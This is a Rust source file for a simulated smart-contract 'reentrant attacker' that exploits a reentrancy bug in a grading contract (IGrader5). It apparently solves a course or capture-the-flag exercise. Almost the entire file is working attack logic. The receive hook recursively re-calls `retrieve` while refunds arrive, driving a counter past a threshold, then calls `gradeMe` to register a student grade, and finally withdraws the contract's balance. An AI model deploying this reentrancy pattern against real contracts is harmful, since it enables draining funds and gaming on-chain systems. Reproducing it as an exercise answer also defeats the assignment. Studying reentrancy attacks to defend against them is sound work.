//! The reentrant attack driver contract.
//!
//! Storage layout:
//!
//! | Slot | Variable |
//! |---|---|
//! | 0 | controller |
//! | 1 | target |
//! | 2 | minValue |
//! | 3 | threshold |
//! | 4 | attemptCap |
//! | 5 | state ([`AttackState`]) |
//! | 6 | reentry depth of the current or last attack |
//! | 7 | counter observed after the last attack call |
//! | 8 | last grade |
//! | 9 | in-call flag (set only while `retrieve` is in flight) |
//! | 10 | per-call stake of the current attack |

use alloy_sol_types::{SolCall, SolEvent, SolInterface, SolValue};
use reentry_core::abi::IGrader5;
use reentry_core::abi::IReentrantAttacker::{self, IReentrantAttackerCalls};
use reentry_core::abi::AttackerParams;
use reentry_core::revert::Revert;
use reentry_core::storage::{slot, word_to_u64};
use reentry_core::traits::{CallContext, Contract, Host};
use reentry_core::{Address, Bytes, U256};
use serde::{Deserialize, Serialize};

use crate::error::AttackError;
use crate::policy::{Observation, ReentryDecision, ReentryPolicy};

/// Registry key of the driver code.
pub const CODE_ID: &str = "reentrant-attacker";

const CONTROLLER: u64 = 0;
const TARGET: u64 = 1;
const MIN_VALUE: u64 = 2;
const THRESHOLD: u64 = 3;
const ATTEMPT_CAP: u64 = 4;
const STATE: u64 = 5;
const DEPTH: u64 = 6;
const LAST_COUNTER: u64 = 7;
const LAST_GRADE: u64 = 8;
const IN_CALL: u64 = 9;
const STAKE: u64 = 10;

/// Lifecycle of one attack attempt.
#[derive(Serialize, Deserialize, Clone, Copy, Debug, Default, PartialEq, Eq)]
#[repr(u8)]
pub enum AttackState {
    #[default]
    Idle = 0,
    InProgress = 1,
    Completed = 2,
    Failed = 3,
}

impl AttackState {
    /// Decode the stored discriminant. Unknown values read as `Idle`.
    pub fn from_u8(value: u8) -> Self {
        match value {
            1 => Self::InProgress,
            2 => Self::Completed,
            3 => Self::Failed,
            _ => Self::Idle,
        }
    }

    pub fn as_u8(self) -> u8 {
        self as u8
    }
}

impl std::fmt::Display for AttackState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            Self::Idle => "Idle",
            Self::InProgress => "InProgress",
            Self::Completed => "Completed",
            Self::Failed => "Failed",
        };
        f.write_str(name)
    }
}

/// Stateless driver code; all state lives in the account's storage.
#[derive(Clone, Copy, Debug, Default)]
pub struct ReentrantAttacker;

impl ReentrantAttacker {
    pub fn new() -> Self {
        Self
    }
}

/// Typed view over the driver's storage inside one frame.
struct Driver<'h> {
    host: &'h mut dyn Host,
    this: Address,
}

impl<'h> Driver<'h> {
    fn new(host: &'h mut dyn Host, ctx: &CallContext) -> Self {
        Self { host, this: ctx.address }
    }

    fn controller(&self) -> Address {
        self.host.sload_address(slot(CONTROLLER))
    }

    fn target(&self) -> Address {
        self.host.sload_address(slot(TARGET))
    }

    fn min_value(&self) -> U256 {
        self.host.sload(slot(MIN_VALUE))
    }

    fn policy(&self) -> ReentryPolicy {
        ReentryPolicy::new(
            self.host.sload_u64(slot(THRESHOLD)),
            self.host.sload_u64(slot(ATTEMPT_CAP)),
        )
    }

    fn state(&self) -> AttackState {
        AttackState::from_u8(self.host.sload_u64(slot(STATE)).min(u8::MAX as u64) as u8)
    }

    fn set_state(&mut self, state: AttackState) -> Result<(), Revert> {
        self.host.sstore(slot(STATE), U256::from(state.as_u8()))
    }

    fn ensure_controller(&self, caller: Address) -> Result<(), Revert> {
        if caller != self.controller() {
            return Err(AttackError::Unauthorized { caller }.into());
        }
        Ok(())
    }

    fn unavailable(&self) -> Revert {
        AttackError::UpstreamUnavailable { target: self.target() }.into()
    }

    /// Read-only call into the target, decoding its single return value.
    fn query<C: SolCall>(&mut self, call: C) -> Result<C::Return, Revert> {
        let target = self.target();
        if !self.host.has_code(target) {
            return Err(self.unavailable());
        }
        let out = self
            .host
            .static_call(target, call.abi_encode().into())
            .map_err(|_| self.unavailable())?;
        C::abi_decode_returns(&out, true).map_err(|_| self.unavailable())
    }

    fn counter(&mut self) -> Result<U256, Revert> {
        let account = self.this;
        Ok(self.query(IGrader5::counterCall { account })?._0)
    }

    fn is_graded(&mut self) -> Result<bool, Revert> {
        let account = self.this;
        Ok(self.query(IGrader5::isGradedCall { account })?._0)
    }

    fn student_grade(&mut self, name: &str) -> Result<U256, Revert> {
        Ok(self.query(IGrader5::studentsCall { name: name.to_string() })?._0)
    }

    /// State-changing call into the target. Its reverts are forwarded
    /// verbatim as `UpstreamReverted`.
    fn invoke<C: SolCall>(&mut self, call: C, value: U256) -> Result<(), Revert> {
        let target = self.target();
        if !self.host.has_code(target) {
            return Err(self.unavailable());
        }
        self.host
            .call(target, value, call.abi_encode().into())
            .map_err(|revert| AttackError::UpstreamReverted { reason: revert.to_string() })?;
        Ok(())
    }

    fn emit<E: SolEvent>(&mut self, event: &E) -> Result<(), Revert> {
        self.host.emit(event.encode_log_data())
    }

    /// `executeAttack`: open the in-call window and make the first
    /// `retrieve`. Reentries happen inside it, driven by [`Self::on_receive`].
    fn initiate(&mut self, ctx: &CallContext) -> Result<(), Revert> {
        self.ensure_controller(ctx.caller)?;
        let minimum = self.min_value();
        if ctx.value <= minimum {
            return Err(AttackError::InsufficientValue {
                sent: ctx.value,
                minimum,
            }
            .into());
        }
        if self.state() == AttackState::InProgress {
            return Err(AttackError::AlreadyInProgress.into());
        }

        self.set_state(AttackState::InProgress)?;
        self.host.sstore(slot(DEPTH), U256::ZERO)?;
        self.host.sstore(slot(STAKE), ctx.value)?;
        self.host.sstore_bool(slot(IN_CALL), true)?;
        self.emit(&IReentrantAttacker::AttackStarted {
            controller: ctx.caller,
            value: ctx.value,
        })?;
        tracing::info!(driver = %self.this, value = %ctx.value, "attack started");

        self.invoke(IGrader5::retrieveCall {}, ctx.value)?;
        self.host.sstore_bool(slot(IN_CALL), false)?;

        let counter = self.counter()?;
        self.host.sstore(slot(LAST_COUNTER), counter)?;
        if word_to_u64(counter) <= self.policy().threshold {
            // Nothing left to finalize: free the driver for a new attempt.
            self.set_state(AttackState::Failed)?;
            tracing::warn!(driver = %self.this, %counter, "attack left counter at or below threshold");
        }
        Ok(())
    }

    /// Empty-calldata entry point: reentry while an attack call is in
    /// flight and the target is paying, a deposit otherwise.
    fn on_receive(&mut self, ctx: &CallContext) -> Result<(), Revert> {
        let target = self.target();
        if !(self.host.sload_bool(slot(IN_CALL)) && ctx.caller == target) {
            if !ctx.value.is_zero() {
                self.emit(&IReentrantAttacker::Deposit {
                    from: ctx.caller,
                    amount: ctx.value,
                })?;
            }
            return Ok(());
        }

        let counter = self.counter()?;
        let depth = self.host.sload_u64(slot(DEPTH));
        let stake = self.host.sload(slot(STAKE));
        let observation = Observation {
            counter: word_to_u64(counter),
            depth,
            balance: self.host.balance(self.this),
            stake,
        };
        let decision = self.policy().decide(&observation);
        tracing::debug!(driver = %self.this, %counter, depth, ?decision, "refund received");
        if decision != ReentryDecision::Reenter {
            return Ok(());
        }

        let depth = depth + 1;
        self.host.sstore(slot(DEPTH), U256::from(depth))?;
        self.emit(&IReentrantAttacker::ReentryTriggered {
            depth: U256::from(depth),
            counter,
        })?;
        self.invoke(IGrader5::retrieveCall {}, stake)
    }

    /// `registerStudent`: register `name` once the counter is past the
    /// threshold and read the recorded grade back.
    fn finalize(&mut self, ctx: &CallContext, name: &str) -> Result<U256, Revert> {
        self.ensure_controller(ctx.caller)?;
        if name.is_empty() {
            return Err(AttackError::EmptyName.into());
        }
        let counter = self.counter()?;
        let threshold = U256::from(self.policy().threshold);
        if counter <= threshold {
            return Err(AttackError::ThresholdNotMet {
                counter,
                required: threshold + U256::from(1),
            }
            .into());
        }
        if self.state() == AttackState::Completed && !self.student_grade(name)?.is_zero() {
            return Err(AttackError::AlreadyRegistered { name: name.to_string() }.into());
        }

        self.invoke(IGrader5::gradeMeCall { name: name.to_string() }, U256::ZERO)?;
        let grade = self.student_grade(name)?;
        self.host.sstore(slot(LAST_GRADE), grade)?;
        self.host.sstore(slot(LAST_COUNTER), counter)?;
        self.set_state(AttackState::Completed)?;
        self.emit(&IReentrantAttacker::RegistrationSuccess {
            name: name.to_string(),
            grade,
        })?;
        tracing::info!(driver = %self.this, name, %grade, "student registered");
        Ok(grade)
    }

    fn withdraw(&mut self, ctx: &CallContext) -> Result<(), Revert> {
        self.ensure_controller(ctx.caller)?;
        let amount = self.host.balance(self.this);
        if amount.is_zero() {
            return Err(AttackError::NothingToWithdraw.into());
        }
        let to = self.controller();
        self.host
            .call(to, amount, Bytes::new())
            .map_err(|revert| AttackError::UpstreamReverted { reason: revert.to_string() })?;
        self.emit(&IReentrantAttacker::Withdrawal { to, amount })?;
        tracing::info!(driver = %self.this, %to, %amount, "withdrawal");
        Ok(())
    }

    fn status(&mut self) -> Result<Vec<u8>, Revert> {
        let state = self.state().as_u8();
        let counter = self.counter()?;
        let graded = self.is_graded()?;
        let balance = self.host.balance(self.this);
        let grade = self.host.sload(slot(LAST_GRADE));
        let reentries = self.host.sload(slot(DEPTH));
        Ok(IReentrantAttacker::getAttackStatusCall::abi_encode_returns(&(
            state, counter, graded, balance, grade, reentries,
        )))
    }
}

impl Contract for ReentrantAttacker {
    fn code_id(&self) -> &'static str {
        CODE_ID
    }

    fn construct(&self, host: &mut dyn Host, ctx: &CallContext, args: &[u8]) -> Result<(), Revert> {
        let params = AttackerParams::abi_decode(args, true).map_err(|_| Revert::empty())?;
        host.sstore_address(slot(CONTROLLER), ctx.caller)?;
        host.sstore_address(slot(TARGET), params.target)?;
        host.sstore(slot(MIN_VALUE), params.minValue)?;
        host.sstore(slot(THRESHOLD), params.threshold)?;
        host.sstore(slot(ATTEMPT_CAP), params.attemptCap)?;
        tracing::info!(driver = %ctx.address, controller = %ctx.caller, target = %params.target, "driver deployed");
        Ok(())
    }

    fn call(&self, host: &mut dyn Host, ctx: &CallContext, input: &[u8]) -> Result<Bytes, Revert> {
        let mut driver = Driver::new(host, ctx);
        if input.is_empty() {
            driver.on_receive(ctx)?;
            return Ok(Bytes::new());
        }

        let call = IReentrantAttackerCalls::abi_decode(input, true).map_err(|_| Revert::empty())?;
        let payable = matches!(
            call,
            IReentrantAttackerCalls::executeAttack(_) | IReentrantAttackerCalls::attackAndRegister(_)
        );
        if !payable && !ctx.value.is_zero() {
            return Err(Revert::empty());
        }

        let output = match call {
            IReentrantAttackerCalls::executeAttack(_) => {
                driver.initiate(ctx)?;
                Vec::new()
            }
            IReentrantAttackerCalls::registerStudent(call) => {
                let grade = driver.finalize(ctx, &call.name)?;
                IReentrantAttacker::registerStudentCall::abi_encode_returns(&(grade,))
            }
            IReentrantAttackerCalls::attackAndRegister(call) => {
                driver.initiate(ctx)?;
                let grade = driver.finalize(ctx, &call.name)?;
                IReentrantAttacker::attackAndRegisterCall::abi_encode_returns(&(grade,))
            }
            IReentrantAttackerCalls::withdraw(_) => {
                driver.withdraw(ctx)?;
                Vec::new()
            }
            IReentrantAttackerCalls::getAttackStatus(_) => driver.status()?,
            IReentrantAttackerCalls::checkCounter(_) => {
                IReentrantAttacker::checkCounterCall::abi_encode_returns(&(driver.counter()?,))
            }
            IReentrantAttackerCalls::checkIfGraded(_) => {
                IReentrantAttacker::checkIfGradedCall::abi_encode_returns(&(driver.is_graded()?,))
            }
            IReentrantAttackerCalls::checkStudentGrade(call) => {
                IReentrantAttacker::checkStudentGradeCall::abi_encode_returns(&(driver.student_grade(&call.name)?,))
            }
            IReentrantAttackerCalls::controller(_) => {
                IReentrantAttacker::controllerCall::abi_encode_returns(&(driver.controller(),))
            }
            IReentrantAttackerCalls::target(_) => IReentrantAttacker::targetCall::abi_encode_returns(&(driver.target(),)),
        };
        Ok(Bytes::from(output))
    }
}
